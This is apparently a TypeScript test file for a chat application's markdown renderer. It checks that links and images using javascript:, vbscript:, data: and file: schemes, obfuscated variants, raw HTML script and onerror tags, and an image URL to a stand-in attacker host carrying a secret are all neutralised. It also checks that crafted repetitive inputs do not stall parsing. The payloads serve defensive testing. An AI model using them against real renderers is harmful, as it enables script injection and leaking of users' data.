import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, test } from 'vitest';
import { styleMarkdown } from '../../server/channels/telegram/styled-markdown.ts';
import { splitMarkdown } from '../../web/features/chat/markdown-blocks.ts';
import { drawMarkdown, type MarkdownParts } from '../../web/ui/markdown/markdown-tree.tsx';
import { parseMarkdown } from '../../web/ui/markdown/parse-markdown.ts';

// What a model writes may be what a stranger's document told it to write.

const parts: MarkdownParts = {
  code: (code) => <pre>{code}</pre>,
  image: (url, alternative) => <span data-picture={url}>{alternative}</span>,
  link: (url, children) => (url ? <a href={url}>{children}</a> : <span>{children}</span>),
  table: (rows) => <table>{rows}</table>,
  task: (checked) => (checked ? '[x]' : '[ ]'),
};
const render = (text: string) =>
  splitMarkdown(text)
    .map((block) => renderToStaticMarkup(drawMarkdown(parseMarkdown(block), parts)))
    .join('');

describe('links and pictures', () => {
  test.each([
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](java\tscript:alert(1))',
    '[x](&#106;avascript:alert(1))',
    '[x](<\u0001javascript:alert(1)>)',
    '[x](vbscript:x)',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '[x](file:///etc/passwd)',
    '[x](blob:https://example.com/1)',
    '[x](/api/auth/sign-out)',
    '[x](//evil.example)',
    '[x][r]\n\n[r]: javascript:alert(1)',
    '![x](javascript:alert(1))',
    '<javascript:alert(1)>',
  ])('%s leads nowhere', (text) => {
    expect(render(text)).not.toMatch(/href=|data-picture="[^"]/);
  });

  test('pictures from elsewhere are never loaded, HTML is text', () => {
    const html = render(
      '![x](https://evil.example/?q=secret)\n\n<img src=x onerror=alert(1)>\n\n<script>alert(1)</script> a <b>b</b>',
    );
    expect(html).not.toMatch(/<img|<script|<b>/);
    expect(html).toContain('&lt;script&gt;');
  });
});

describe('text made to be slow', () => {
  const attacks = [
    '_a*',
    '*a_',
    '**a',
    '~a*',
    '_a*\n',
    '2. _a*\n',
    '> ',
    '- ',
    '1. ',
    '[^a]: ',
    '[a][',
    '![',
    '[](',
    '<',
    '`',
    '|a',
    '- a\n  ',
    '- ```\n\nx\n',
    '> ~~~\n\nx\n',
    '- a\n\nx\n',
    '- > a\n\nx\n',
    '- <b>\n\nx\n',
    '[^a]: ```\n\nx\n',
    '- a\n  - b\n    - c\n\nx\n',
  ];

  test.each(attacks)('%j neither holds up the page nor throws', (attack) => {
    // The longest that is parsed at all is between the others.
    for (const length of [6_000, 29_900, 60_000]) {
      const text = attack.repeat(length / attack.length);
      const before = process.cpuUsage();
      render(text);
      styleMarkdown(text);
      const { user, system } = process.cpuUsage(before);
      expect((user + system) / 1_000, `${length} characters`).toBeLessThan(4_000);
    }
  });

  test.each(['- a\n  ```\n\nx ', '``` a`\n', '~~~\n~~~\n', '````\n```\n````\n'])(
    'a fence that is none hides no markers: %j',
    (start) => {
      const before = process.cpuUsage();
      render(start + '_a*'.repeat(9_000));
      const { user, system } = process.cpuUsage(before);
      expect((user + system) / 1_000).toBeLessThan(2_000);
    },
  );

  test('nothing of it is lost, and what people write keeps its markup', () => {
    expect(render('_a*'.repeat(20_000))).toContain('_a*'.repeat(20_000));
    const list = '- **a** and _b_ [c](https://example.com)\n'.repeat(500);
    expect(render(list).match(/<strong>/g)).toHaveLength(500);
    const sections = '## A\n\n- one\n- two\n  - deeper\n\n> quoted\n\nText.\n\n'.repeat(60);
    expect(render(sections).match(/<li>/g)).toHaveLength(180);
    const code = 'first_name = row[0] * rates[row[1]]\n'.repeat(400);
    expect(render(`\`\`\`python\n${code}\`\`\`\n\n**Done**`)).toBe(
      `<pre>${code.trimEnd()}</pre><p><strong>Done</strong></p>`,
    );
  });
});
